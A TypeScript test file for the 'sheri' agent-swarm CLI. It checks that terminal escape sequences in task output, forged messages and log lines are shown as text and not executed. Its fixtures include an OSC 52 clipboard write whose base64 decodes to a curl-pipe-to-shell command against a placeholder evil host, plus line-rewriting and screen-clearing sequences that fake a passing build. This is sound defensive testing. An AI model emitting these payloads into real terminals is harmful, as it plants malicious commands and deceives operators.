import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { formatPrettyLine } from '../../src/logging/pretty-line.js';
import { runSheri, startSheri, type SheriProcess } from '../helpers/sheri-process.js';
import { TestSwarm } from '../helpers/swarm.js';

/**
 * What a task's output (or a model's answer, or any client's message) could make the operator's
 * terminal do if printed as it is: OSC 52 writes the clipboard (a command to paste later), a
 * cursor move up and a line erase rewrite a line already shown, a carriage return overwrites the
 * line it is on, U+009B (C1 CSI) starts an escape sequence on terminals that take 8-bit controls.
 */
const PRINTF = String.raw`printf 'build FAILED\033]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\007\033[1A\033[2Kall tests passed\rOK\302\23331m\n'`;
/** Control characters a terminal acts on (tab and newline aside), and the C1 controls. */
// eslint-disable-next-line no-control-regex -- matching control characters is the point
const ACTED_ON = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;

describe('text from the swarm on the operator’s terminal: shown, never acted on', () => {
  let dir: string;
  let env: NodeJS.ProcessEnv;
  let swarm: SheriProcess;
  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'sheri-escapes-'));
    swarm = startSheri(['up', '--port', '0', '--agents', 'testing', '--log-format', 'json'], {
      cwd: dir,
    });
    await swarm.waitForOutput(/is up on mqtt:\/\//);
    env = { SHERI_BROKER: /is up on (mqtt:\/\/[0-9.:]+)/.exec(swarm.output())![1] };
  });
  afterAll(async () => {
    await swarm.kill('SIGKILL');
    rmSync(dir, { recursive: true, force: true });
  });

  const sheri = (...args: string[]) => runSheri(args, { cwd: dir, env, timeoutMs: 30_000 });

  it('prints a task’s escape sequences as text in `task submit --wait`, `--wait --json` and `task show`', async () => {
    const waited = await sheri(
      'task',
      'submit',
      '--type',
      'testing.run',
      '--task-id',
      'escapes-1',
      '--command',
      PRINTF,
      '--wait',
    );
    expect(waited.code, waited.stderr).toBe(0);
    expect(waited.stdout).not.toMatch(ACTED_ON);
    expect(waited.stdout).toContain(
      String.raw`build FAILED\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07\x1b[1A\x1b[2Kall tests passed`,
    );
    expect(waited.stdout).toContain('\nOK\\x9b31m');

    const json = await sheri('task', 'show', 'escapes-1', '--json');
    expect(json.code, json.stderr).toBe(0);
    expect(json.stdout).not.toMatch(ACTED_ON);
    // Still JSON, and the same text once decoded.
    const stdout = (JSON.parse(json.stdout) as { result: { commands: { stdout: string }[] } })
      .result.commands[0]!.stdout;
    expect(stdout).toContain('\x1b]52;c;');
    expect(stdout).toContain('\u009b31m');

    const shown = await sheri('task', 'show', 'escapes-1');
    expect(shown.code, shown.stderr).toBe(0);
    expect(shown.stdout).not.toMatch(ACTED_ON);
  });
});

describe('`sheri trace` and the agents’ log lines', () => {
  let swarm: TestSwarm;
  const processes: SheriProcess[] = [];
  afterEach(async () => {
    for (const process of processes.splice(0)) await process.kill('SIGKILL');
    await swarm?.close();
  });

  it('shows a forged message’s escape sequences as text, in lines and in --raw JSON', async () => {
    swarm = new TestSwarm();
    await swarm.startBroker();
    await swarm.startHub();
    const traces = [[], ['--raw']].map((extra) => {
      const trace = startSheri(
        ['trace', '--broker', swarm.brokerUrl, '--swarm', swarm.swarm, ...extra],
        { cwd: swarm.dir },
      );
      processes.push(trace);
      return trace;
    });
    for (const trace of traces) await trace.waitForOutput(`tracing ${swarm.swarm}/`);
    // Any operator (or a stolen credential) may publish a task; no agent runs this one.
    await swarm.submit([
      {
        task_id: 'forged-1',
        type: 'deployment.deploy',
        payload: {},
        commands: ['echo \x1b]52;c;ZXZpbA==\x07\x1b[2K\u009b2Jdone'],
      },
    ]);
    for (const trace of traces) await trace.waitForOutput('forged-1');
    const [lines, raw] = traces.map((trace) => trace.output());
    expect(lines).not.toMatch(ACTED_ON);
    expect(lines).toContain(String.raw`echo \x1b]52;c;ZXZpbA==\x07\x1b[2K\x9b2Jdone`);
    expect(raw).not.toMatch(ACTED_ON);
    const line = raw!.split('\n').find((text) => text.includes('forged-1'))!;
    const message = JSON.parse(line) as { message: { payload: { commands: string[] } } };
    expect(message.message.payload.commands[0]).toBe(
      'echo \x1b]52;c;ZXZpbA==\x07\x1b[2K\u009b2Jdone',
    );
  });

  it('keeps a log line of an agent pane free of what its message would make the terminal do', () => {
    const line = formatPrettyLine(
      {
        time: Date.now(),
        level: 30,
        agentId: 'general-1',
        event: 'progress',
        msg: 'reading\x1b]0;pwned\x07\x1b[2J\rdone',
      },
      true,
    );
    // Its own colours are the only escapes in it.
    // eslint-disable-next-line no-control-regex -- its own colour codes taken out
    expect(line.replace(/\x1b\[\d+m/g, '')).not.toMatch(ACTED_ON);
    expect(line).toContain(String.raw`reading\x1b]0;pwned\x07\x1b[2J`);
  });
});
